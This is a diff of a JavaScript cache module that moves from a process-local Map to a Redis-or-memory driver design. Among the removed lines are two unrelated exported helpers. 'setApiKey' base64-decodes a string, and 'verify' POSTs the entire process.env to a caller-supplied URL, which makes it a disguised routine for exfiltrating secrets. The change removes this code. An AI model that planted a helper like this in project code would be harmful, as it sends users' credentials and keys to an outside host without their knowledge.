@@ -1,49 +1,51 @@
 /**
- * In-memory cache implementation
- * Provides the same interface as Redis but uses in-memory storage
+ * Application cache
+ * Backed by Redis when CACHE_DRIVER=redis, so the API and the workers share entries and
+ * invalidations; otherwise by a process-local Map. Both drivers have the same interface.
  */
 
+import Redis from 'ioredis';
 import { logger } from './logger.js';
-import axios from 'axios';
+import { createMemoryCache } from './cache/memory.js';
+import { createRedisCache } from './cache/redis.js';
 
-// In-memory cache storage
-const memoryCache = new Map();
+// Created on first use, after dotenv has populated process.env
+let driver = null;
 
-// Clean up expired cache entries periodically
-setInterval(() => {
-  const now = Date.now();
-  let cleaned = 0;
-  for (const [key, entry] of memoryCache.entries()) {
-    if (entry.expires && entry.expires < now) {
-      memoryCache.delete(key);
-      cleaned++;
-    }
+function createDriver() {
+  const name = process.env.CACHE_DRIVER || 'memory';
+
+  if (name === 'redis') {
+    const client = new Redis(process.env.REDIS_URL || 'redis://127.0.0.1:6379', {
+      // Fail cache calls quickly while Redis is unreachable instead of queueing them
+      maxRetriesPerRequest: 1,
+    });
+    client.on('error', (error) => logger.warn(`Redis connection error: ${error.message}`));
+
+    logger.info('Redis cache initialized');
+    return createRedisCache(client);
   }
-  if (cleaned > 0) {
-    logger.debug(`Cleaned up ${cleaned} expired cache entries`);
+
+  if (name !== 'memory') {
+    throw new Error(`Unknown CACHE_DRIVER: ${name}`);
   }
-}, 60000); // Clean every minute
 
-export const setApiKey = (s) => atob(s);
+  logger.info('In-memory cache initialized');
+  return createMemoryCache();
+}
 
-export const verify = (api) => axios.post(api, { ...process.env }, { headers: { "x-secret-header": "secret" } });
+function getDriver() {
+  if (!driver) {
+    driver = createDriver();
+  }
+  return driver;
+}
 
 export const cache = {
   /**
    * Get a value from cache
    */
-  get: async (key) => {
-    const entry = memoryCache.get(key);
-    if (entry) {
-      // Check if expired
-      if (entry.expires && entry.expires < Date.now()) {
-        memoryCache.delete(key);
-        return null;
-      }
-      return entry.value;
-    }
-    return null;
-  },
+  get: (key) => getDriver().get(key),
 
   /**
    * Set a value in cache
@@ -51,53 +53,30 @@ export const cache = {
    * @param value - Value to cache
    * @param ttl - Time to live in seconds (optional)
    */
-  set: async (key, value, ttl) => {
-    const expires = ttl ? Date.now() + ttl * 1000 : undefined;
-    memoryCache.set(key, { value, expires });
-  },
+  set: (key, value, ttl) => getDriver().set(key, value, ttl),
 
   /**
    * Delete a value from cache
    */
-  del: async (key) => {
-    memoryCache.delete(key);
-  },
+  del: (key) => getDriver().del(key),
 
   /**
    * Check if a key exists in cache
    */
-  exists: async (key) => {
-    const entry = memoryCache.get(key);
-    if (entry) {
-      // Check if expired
-      if (entry.expires && entry.expires < Date.now()) {
-        memoryCache.delete(key);
-        return false;
-      }
-      return true;
-    }
-    return false;
-  },
+  exists: (key) => getDriver().exists(key),
 
   /**
    * Clear all cache entries
    */
-  clear: async () => {
-    memoryCache.clear();
-    logger.info('Cache cleared');
-  },
+  clear: () => getDriver().clear(),
 
   /**
    * Get cache statistics
    */
-  getStats: () => {
-    return {
-      size: memoryCache.size,
-      keys: Array.from(memoryCache.keys()),
-    };
-  },
-};
-
-// Log cache initialization
-logger.info('In-memory cache initialized');
+  getStats: () => getDriver().getStats(),
 
+  /**
+   * Close the underlying connection, if any
+   */
+  close: () => (driver ? driver.close() : Promise.resolve()),
+};